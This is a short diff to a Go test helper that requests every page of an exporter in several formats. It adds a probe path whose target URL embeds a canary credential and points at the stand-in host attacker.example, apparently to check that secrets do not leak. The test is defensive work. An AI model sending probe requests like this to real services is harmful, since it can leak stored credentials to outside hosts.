@@ -393,7 +393,7 @@ func listeningAt(t *testing.T, p *process) string {
 // looksEverywhere searches every page in every format.
 func looksEverywhere(t *testing.T, x *exporter) {
 	t.Helper()
-	for _, path := range []string{"/", "/metrics", "/-/healthy", "/-/ready", "/config", "/sd", "/api/v1/endpoints", "/endpoints/hcx-login-500-body", "/probe?endpoint=hcx-login-500-body"} {
+	for _, path := range []string{"/", "/metrics", "/-/healthy", "/-/ready", "/config", "/sd", "/api/v1/endpoints", "/endpoints/hcx-login-500-body", "/probe?endpoint=hcx-login-500-body", "/probe?module=hcx&target=https://m:" + canary + "x@attacker.example"} {
 		for _, accept := range []string{
 			"", "application/openmetrics-text;version=1.0.0",
 			"application/vnd.google.protobuf;proto=io.prometheus.client.MetricFamily;encoding=delimited",
